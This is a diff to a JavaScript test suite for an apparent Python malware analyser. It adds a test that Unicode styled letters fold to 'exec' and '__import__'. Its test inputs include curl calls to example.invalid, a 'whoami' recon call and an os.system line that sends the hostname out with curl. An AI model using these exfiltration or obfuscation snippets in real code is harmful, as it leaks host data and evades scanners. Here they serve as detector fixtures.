@@ -9,6 +9,7 @@ import assert from 'node:assert/strict';
 import { execFileSync } from 'node:child_process';
 import { PythonParser } from '../../../src/analyze/python/parser.js';
 import { ModuleModel } from '../../../src/analyze/flow/module-model.js';
+import { foldStyledLetters } from '../../../src/analyze/source-scan.js';
 import { moduleFacts } from '../../../src/analyze/flow/facts.js';
 import { Evaluator } from '../../../src/analyze/flow/evaluate.js';
 import { taintsOf, textOf } from '../../../src/analyze/unpack/value.js';
@@ -166,6 +167,11 @@ test('folding: eval of a literal name resolves it, XOR of unknowns is obfuscated
   assert.deepEqual(fold('import subprocess\nsubprocess.getoutput("curl -s https://example.invalid/x")').taints, ['network']);
   assert.deepEqual(fold('import os\nos.popen("whoami").read()').taints, ['recon']);
   assert.deepEqual(facts('import os, socket\nos.system("curl -d " + socket.gethostname() + " https://example.invalid/c")'), ['process:import:recon', 'network:import:recon']);
+});
+
+test('styled letters fold to the identifiers Python reads (NFKC)', () => {
+  assert.equal(foldStyledLetters('ℯ𝓍ℯ𝒸(x)\n__𝘪𝗺𝙥𝗼𝗿𝘵__("os")'), 'exec(x)\n__import__("os")');
+  assert.equal(foldStyledLetters('print("plain ascii")'), 'print("plain ascii")');
 });
 
 test('command lines: sends anywhere in a command line, DNS lookups, substitutions as recon, downloads run later in the same line', () => {
